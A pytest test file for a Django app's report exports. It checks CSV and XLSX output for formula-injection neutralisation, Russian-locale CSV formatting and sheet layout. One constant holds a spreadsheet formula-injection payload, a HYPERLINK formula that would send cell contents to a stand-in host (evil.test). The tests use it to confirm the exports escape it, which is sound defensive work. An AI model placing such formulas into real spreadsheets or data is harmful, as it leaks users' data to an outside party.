"""Exports that open safely and correctly: no formula injection, Russian CSV for Russian Excel,
XLSX with real numbers, short unique sheet names, frozen and sized columns."""

import csv
import io

import pytest
from openpyxl import load_workbook

from campaigns.models import Campaign
from reports import services

from .data import known_campaigns
from .test_generation import PERIOD

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"x")'


def _run(personas, capture, language, formats):
    personas.marketer.language = language
    personas.marketer.save()
    with capture(execute=True):
        run = services.run_request(
            workspace=personas.workspace,
            actor=personas.marketer,
            kind="workspace",
            formats=formats,
            **PERIOD,
        )
    run.refresh_from_db()
    assert run.status == "done", run.error
    return run


def _bytes(run, fmt):
    with run.files.get(format=fmt).file.open("rb") as handle:
        return handle.read()


@pytest.fixture
def evil(personas, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    pies, other = known_campaigns(personas.workspace)
    Campaign.objects.filter(pk=other.pk).update(name=EVIL)
    return pies, other


def test_xlsx_stores_a_formula_like_campaign_name_as_text(personas, evil, django_capture_on_commit_callbacks):
    run = _run(personas, django_capture_on_commit_callbacks, "en", ["xlsx"])
    book = load_workbook(io.BytesIO(_bytes(run, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells, "the campaign name is in the book"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # numbers stay numbers (a negative ROMI is not "neutralised")
    results = book.worksheets[1]
    assert any(c.value == -100 and c.data_type == "n" for row in results.iter_rows() for c in row)


def test_csv_prefixes_a_formula_like_name_with_an_apostrophe(
    personas, evil, django_capture_on_commit_callbacks
):
    run = _run(personas, django_capture_on_commit_callbacks, "en", ["csv"])
    rows = list(csv.reader(io.StringIO(_bytes(run, "csv").decode("utf-8-sig"))))
    names = [r[0] for r in rows if r and "HYPERLINK" in r[0]]
    assert names and all(n == "'" + EVIL for n in names)
    assert any(r and r[-1] == "-100" for r in rows)  # a negative number is left alone


def test_russian_csv_is_semicolon_separated_with_decimal_commas_and_a_bom(
    personas, evil, django_capture_on_commit_callbacks
):
    run = _run(personas, django_capture_on_commit_callbacks, "ru", ["csv"])
    content = _bytes(run, "csv")
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    tiles = {r[0]: r[1] for r in rows if len(r) == 3 and r[0]}
    assert tiles["Стоимость заявки"] == "2400"
    assert tiles["ROMI, %"] == "-75"
    assert tiles["CTR, %"] == "4,8"  # a decimal comma: Russian Excel opens it as a number
    assert any(r[:2] == ["Осенние пироги", "Продажи пирогов"] for r in rows)


def test_xlsx_sheets_are_short_unique_frozen_and_sized(personas, evil, django_capture_on_commit_callbacks):
    run = _run(personas, django_capture_on_commit_callbacks, "ru", ["xlsx"])
    book = load_workbook(io.BytesIO(_bytes(run, "xlsx")))
    names = book.sheetnames
    assert len(names) == len({n.lower() for n in names}) and all(len(n) <= 31 for n in names)
    assert all("(" not in n for n in names)
    results = book.worksheets[1]
    assert results.freeze_panes and results.freeze_panes.startswith("B")
    assert results.column_dimensions["A"].width >= 10
    money = [c for row in results.iter_rows() for c in row if c.value == 10000]
    assert money and "₽" in money[0].number_format
    for ws in book.worksheets:
        for row in ws.iter_rows(values_only=True):
            labels = [v for v in row if isinstance(v, str)]
            if len(labels) > 3:
                assert len(labels) == len({v.lower() for v in labels})
